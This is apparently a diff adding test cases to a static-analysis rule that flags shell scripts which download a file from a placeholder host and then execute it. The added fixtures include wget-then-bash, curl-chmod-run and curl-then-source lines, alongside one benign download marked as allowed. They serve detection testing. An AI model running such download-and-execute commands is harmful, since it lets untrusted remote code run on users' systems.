@@ -11,3 +11,12 @@ jq . data.json
 cd /tmp && curl -O https://a.invalid/bin/agent && chmod +x agent && ./agent
 # ok: remote-code-shell-started-after-download
 curl -O https://a.invalid/bin/rows.csv && ./import rows.csv
+# ruleid: remote-code-shell-started-after-download
+wget -qO /tmp/n https://a.invalid/n
+bash /tmp/n
+# ruleid: remote-code-shell-started-after-download
+curl -sLo runner https://a.invalid/r
+chmod +x runner
+./runner &
+# ruleid: remote-code-shell-started-after-download
+curl -s https://a.invalid/r > /tmp/part && . /tmp/part
